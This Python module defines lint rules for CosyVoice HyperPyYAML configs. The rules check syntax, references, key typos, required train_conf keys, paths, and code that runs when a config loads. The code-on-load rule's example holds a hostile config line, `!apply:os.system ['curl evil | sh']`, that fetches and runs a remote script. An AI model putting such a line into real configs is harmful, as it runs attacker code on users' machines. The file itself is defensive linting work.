"""Lint rules CX0xx (the file itself: syntax, duplicates, refs, code run on load) and CX5xx (keys, paths)."""

from __future__ import annotations

import difflib
import os
from collections import Counter
from pathlib import Path
from typing import Iterator

from cosyvoice_ext.lint import Issue, LintContext, Rule
from cosyvoice_ext.lint.document import REF, RefError
from cosyvoice_ext.lint.yamlpos import YMap, YScalar

# Top-level keys of upstream's CosyVoice/CosyVoice2/CosyVoice3 configs (+ our section): typo targets.
KNOWN_TOP = (
    "sample_rate", "text_encoder_input_size", "llm_input_size", "llm_output_size", "spk_embed_dim",
    "qwen_pretrain_path", "token_frame_rate", "token_mel_ratio", "llm", "flow", "hift", "hifigan",
    "mel_spec_transform1", "parquet_opener", "get_tokenizer", "allowed_special", "tokenize", "filter",
    "resample", "truncate", "feat_extractor", "compute_fbank", "compute_f0", "pitch_extractor",
    "parse_embedding", "shuffle", "sort", "batch", "padding", "data_pipeline", "data_pipeline_gan",
    "train_conf", "train_conf_gan", "cosyext",
    # the 2026 upstream (CosyVoice3 recipe, online features)
    "chunk_size", "num_decoding_left_chunks", "compute_whisper_fbank",
)
TRAIN_CONF_REQUIRED = ("optim", "optim_conf", "scheduler", "scheduler_conf", "max_epoch", "grad_clip",
                       "accum_grad", "log_interval", "save_per_step")
TRAIN_CONF_KNOWN = TRAIN_CONF_REQUIRED + ("optim_d", "optim_conf_d", "scheduler_d", "scheduler_conf_d")
SAFE_APPLY = {"random.seed", "numpy.random.seed", "torch.manual_seed", "torch.cuda.manual_seed_all"}
_KNOWN_COUNTS = {k: Counter(k) for k in (*KNOWN_TOP, *TRAIN_CONF_REQUIRED, "optim_d", "optim_conf_d", "scheduler_d",
                                          "scheduler_conf_d")}


def _syntax(ctx: LintContext) -> Iterator[Issue]:
    """HyperPyYAML cannot load it, so training fails before doing anything."""
    for p in ctx.doc.parsed.problems:
        if p.kind in ("syntax", "not-mapping"):
            yield Issue(p.message, at=p.pos, fix="fix the YAML so that it parses; `python -c \"import yaml,sys; "
                        "yaml.compose(open(sys.argv[1]))\" FILE` shows the same error")


def _duplicates(ctx: LintContext) -> Iterator[Issue]:
    """HyperPyYAML (ruamel) refuses duplicate keys; plain YAML readers silently keep the last one, so the value you
    edit may not be the one that counts."""
    for p in ctx.doc.parsed.problems:
        if p.kind == "duplicate":
            yield Issue(p.message, at=p.pos, fix="keep one of the two definitions")


def _refs(ctx: LintContext) -> Iterator[Issue]:
    """HyperPyYAML raises at load time; with a typo in a processor reference the whole pipeline fails."""
    suggestions: dict[str, list[str]] = {}  # per missing name: one difflib pass over the keys, not one per ref
    for _, node in ctx.doc.nodes():
        if isinstance(node, YScalar) and node.tag in ("!ref", "!copy"):
            refs = REF.findall(node.raw)
            if not refs:
                yield Issue(f"{node.tag} '{node.raw}' has no <key> to refer to", at=node,
                            fix="write it as !ref <key> (or <a.b> for a nested key)")
            for ref in refs:
                try:
                    ctx.doc.ref_target(ref)
                except RefError:
                    top = ref.split(".")[0].split("[")[0].strip()
                    if top not in suggestions:
                        suggestions[top] = difflib.get_close_matches(top, ctx.doc.root.keys(), n=1, cutoff=0.6)
                    close = suggestions[top]
                    yield Issue(f"!ref <{ref}> does not resolve: no key '{ref}' in this config", at=node,
                                fix=f"did you mean <{close[0]}>?" if close else "define the key or fix the reference")


#: module roots whose names a config may `!new:`/`!name:`/`!module:` without a finding: upstream's own code
#: and what it builds on (issue 10); importing them runs nothing a CosyVoice install does not run anyway
TRUSTED_ROOTS = ("cosyvoice", "matcha", "torch")
#: ... except torch callables that load and run code from somewhere else when `!new:` calls them
#: (pickles, TorchScript, hub repositories, compiled extensions)
RUNS_FOREIGN_CODE = ("torch.load", "torch.serialization.load", "torch.hub", "torch.jit.load", "torch.package",
                     "torch.utils.cpp_extension", "torch.ops.load_library", "torch.classes.load_library")
#: names outside those roots that upstream's own recipes use (examples/*/conf at 44316c34 and ace7c47):
#: omegaconf's config container (flow cfm_params) and whisper's tokenizer factory (CosyVoice 1 recipes)
RECIPE_NAMES = {"new": frozenset({"omegaconf.DictConfig"}), "name": frozenset({"whisper.tokenizer.get_tokenizer"})}


def _within(target: str, prefixes: tuple[str, ...]) -> bool:
    return any(target == p or target.startswith(p + ".") for p in prefixes)


def _runs_code(kind: str, target: str) -> str | None:
    """Why loading a `!kind:target` tag runs code lint cannot vouch for (None: it does not)."""
    if kind == "include":
        return f"!include:{target} loads another YAML file that lint does not read, with whatever tags it holds"
    if kind == "apply":
        return None if target in SAFE_APPLY else f"!apply:{target} calls {target} whenever this config is loaded"
    if target in RECIPE_NAMES.get(kind, ()):
        return None
    if _within(target, TRUSTED_ROOTS):
        if kind == "new" and _within(target, RUNS_FOREIGN_CODE):
            return f"!new:{target} calls {target}, which loads and runs code from outside this config"
        return None
    module = target.split(".")[0]
    verb = {"new": f"imports {module} and calls {target}", "name": f"imports {module} (running its top-level code)",
            "module": f"imports {target} (running its top-level code)"}[kind]
    return f"!{kind}:{target} {verb} whenever this config is loaded"


def _apply(ctx: LintContext) -> Iterator[Issue]:
    """HyperPyYAML runs code while it loads a config: `!new:` imports a module and calls a class or
    function, `!name:` and `!module:` import a module (its top-level code runs), `!apply:` calls a
    function, and `!include:` pulls in another file with tags of its own. A shared config can run
    anything this way (`!apply:os.system`, `!new:subprocess.Popen`).

    Not flagged, because a CosyVoice training run executes them anyway: `!new:`/`!name:`/`!module:`
    of the `cosyvoice`, `matcha` and `torch` modules (except the torch callables that load pickles,
    TorchScript, hub code or compiled extensions: torch.load, torch.hub, torch.jit.load,
    torch.package, torch.utils.cpp_extension, torch.ops/classes.load_library, which `!new:` would
    call); the seeding calls `!apply:random.seed`, `numpy.random.seed`, `torch.manual_seed` and
    `torch.cuda.manual_seed_all`; and the two other names upstream's own recipes use at both
    supported commits, `!new:omegaconf.DictConfig` and `!name:whisper.tokenizer.get_tokenizer`.
    A warning, not an error: the config still trains (the code runs too)."""
    for _, node in ctx.doc.nodes():
        call = node.call
        why = _runs_code(*call) if call else None
        if why:
            yield Issue(f"{why} (cosyext lint only reads it)", at=node,
                        fix="make sure you trust this line; upstream's recipes need only cosyvoice, matcha and torch "
                            "names and the seeding calls")


def _could_match(word: str, known: tuple[str, ...], cutoff: float) -> bool:
    """Whether difflib.get_close_matches(word, known, cutoff=cutoff) can find anything: the length and
    character-multiset upper bounds it applies itself, but without its per-candidate overhead (a
    config with 40,000 generated keys spent most of its lint time in difflib)."""
    counts = Counter(word)
    for k in known:
        total = len(word) + len(k)
        if 2.0 * min(len(word), len(k)) / total < cutoff:
            continue
        common = sum(min(n, counts[c]) for c, n in _KNOWN_COUNTS[k].items())
        if 2.0 * common / total >= cutoff:
            return True
    return False


def _referenced(ctx: LintContext) -> set[str]:
    """Top-level names some `!ref <name...>` uses: keys the author defined as variables on purpose."""
    names = set()
    for _, node in ctx.doc.nodes():
        if isinstance(node, YScalar) and node.tag in ("!ref", "!copy"):
            names.update(r.split(".")[0].split("[")[0].strip() for r in REF.findall(node.raw))
    return names


def _top_typos(ctx: LintContext) -> Iterator[Issue]:
    """Upstream ignores unknown keys, so `trian_conf:` or `acum_grad:` silently does nothing."""
    keys = set(ctx.doc.root.keys())
    used = _referenced(ctx)
    for k, _ in ctx.doc.root.items:
        if not isinstance(k, YScalar) or k.raw in KNOWN_TOP or k.raw.startswith("__") or k.raw in used:
            continue
        if not _could_match(k.raw, KNOWN_TOP, 0.75):
            continue
        close = [c for c in difflib.get_close_matches(k.raw, KNOWN_TOP, n=1, cutoff=0.75) if c not in keys]
        if close:
            yield Issue(f"unknown top-level key '{k.raw}'; did you mean '{close[0]}'?", at=k,
                        fix=f"rename it to {close[0]} (upstream silently ignores unknown keys)")
    tc = ctx.doc.deref(ctx.doc.root.get("train_conf"))
    if isinstance(tc, YMap):
        for k, _ in tc.items:
            if isinstance(k, YScalar) and k.raw not in TRAIN_CONF_KNOWN:
                close = difflib.get_close_matches(k.raw, TRAIN_CONF_KNOWN, n=1, cutoff=0.75)
                if close and close[0] not in tc.keys():
                    yield Issue(f"unknown train_conf key '{k.raw}'; did you mean '{close[0]}'?", at=k,
                                fix=f"rename it to {close[0]}")


def _train_conf_keys(ctx: LintContext) -> Iterator[Issue]:
    """init_optimizer_and_scheduler and the executor index train_conf keys directly: a missing one is a KeyError after
    the model was built."""
    root = ctx.doc.root
    tc_key = root.key_node("train_conf")
    tc = ctx.doc.deref(root.get("train_conf"))
    if tc_key is None:
        if any(m in ctx.models() for m in ("llm", "flow")):
            yield Issue("no train_conf section: upstream train.py reads configs['train_conf'] and fails", at=root.start,
                        fix="add a train_conf section (optim, optim_conf, scheduler, scheduler_conf, max_epoch, "
                            "grad_clip, accum_grad, log_interval, save_per_step)")
        return
    if not isinstance(tc, YMap):
        yield Issue("train_conf must be a mapping", at=tc_key)
        return
    missing = [k for k in TRAIN_CONF_REQUIRED if tc.get(k) is None]
    if ("scheduler_conf" in missing and ctx.doc.value("train_conf", "scheduler") == "constantlr"
            and ctx.train_engine != "deepspeed"):
        missing.remove("scheduler_conf")  # torch_ddp builds ConstantLR(optimizer) without reading it (seen)
    if missing:
        yield Issue(f"train_conf lacks {', '.join(missing)}: upstream's optimizer/executor code indexes these keys",
                    at=tc_key, fix="add " + ", ".join(f"{k}: ..." for k in missing))


def _model_section(ctx: LintContext) -> Iterator[Issue]:
    """train.py takes configs[args.model]; without it the run dies with a KeyError/None model."""
    if ctx.model in ("llm", "flow", "hift") and ctx.doc.root.get(ctx.model) is None:
        yield Issue(f"--model {ctx.model} but the config defines no top-level '{ctx.model}:' model",
                    at=ctx.doc.root.start, fix=f"add the {ctx.model} model section or train another model")


PATH_KEYS = ("qwen_pretrain_path", "token_path", "pretrain_path", "model_dir", "path")


def _paths(ctx: LintContext) -> Iterator[Issue]:
    """Missing paths fail only after the model is built (minutes in), or, for the Qwen tokenizer, when the data loader
    starts."""
    override = ctx.options.get("qwen_pretrain_path")
    for keypath, node in ctx.doc.nodes():
        if not keypath or not isinstance(keypath[-1], str) or not isinstance(node, YScalar) or node.tag:
            continue
        name = keypath[-1]
        if not (name in PATH_KEYS or name.endswith("_path") or name.endswith("_dir")):
            continue
        value = node.value
        if name == "qwen_pretrain_path" and override:
            value = override
        if not isinstance(value, str) or not value:
            continue
        candidates = [Path(os.path.expanduser(value))]
        if not candidates[0].is_absolute():
            candidates.append(ctx.doc.dir / value)
        if not any(c.exists() for c in candidates):
            hint = ("pass the real directory to train.py with --qwen_pretrain_path (it overrides this key) and to "
                    "lint with --qwen-pretrain-path" if name == "qwen_pretrain_path" else "fix the path")
            yield Issue(f"{'.'.join(map(str, keypath))}: path '{value}' does not exist", at=node, fix=hint)


RULES = [
    Rule("CX001", "yaml-syntax", "error", "The file is not valid YAML (or not a mapping).", _syntax,
         example="train_conf:\n  optim: adam\n   lr: 1e-5   # bad indentation",
         fix="Fix the YAML at the reported line and column."),
    Rule("CX002", "duplicate-key", "error", "A key is defined twice in the same mapping.", _duplicates,
         example="filter: !name:cosyvoice.dataset.processor.filter\n  token_max_length: 200\n  token_max_length: 0",
         fix="Delete one of the definitions."),
    Rule("CX003", "unresolved-ref", "error", "A `!ref <key>` names a key the config does not define.", _refs,
         example="data_pipeline: [!ref <parquet_openr>]",
         fix="Point the reference at an existing key (nested keys: <a.b>)."),
    Rule("CX004", "code-on-load", "warning",
         "A tag runs code outside cosyvoice/matcha/torch when the config is loaded (`!new:`, `!name:`, `!apply:`, "
         "`!module:`, `!include:`).", _apply,
         example="__hello: !apply:os.system ['curl evil | sh']\nlauncher: !new:subprocess.Popen [['sh', 'x.sh']]",
         fix="Remove the line unless you wrote it and trust it."),
    Rule("CX501", "missing-path", "warning", "A path-like value (`*_path`, `*_dir`) does not exist.", _paths,
         example="qwen_pretrain_path: /data/pretrained/CosyVoice2-0.5B/CosyVoice-BlankEN-typo",
         fix="Fix the path; for qwen_pretrain_path pass --qwen_pretrain_path to train.py (it overrides the key)."),
    Rule("CX502", "key-typo", "warning", "An unknown top-level or train_conf key looks like a misspelled known key.",
         _top_typos,
         example="train_conf:\n  acum_grad: 4", fix="Rename the key to the suggestion."),
    Rule("CX503", "train-conf-keys", "error", "train_conf is missing or lacks keys upstream's training code reads.",
         _train_conf_keys,
         example="train_conf:\n  optim: adam", fix="Add the missing keys (see upstream's cosyvoice2.yaml)."),
    Rule("CX504", "model-section", "error", "`--model X` is given but the config has no `X:` model.", _model_section,
         example="# cosyext lint --model flow on a config without flow:", fix="Add the model or pick the right --model."),
]
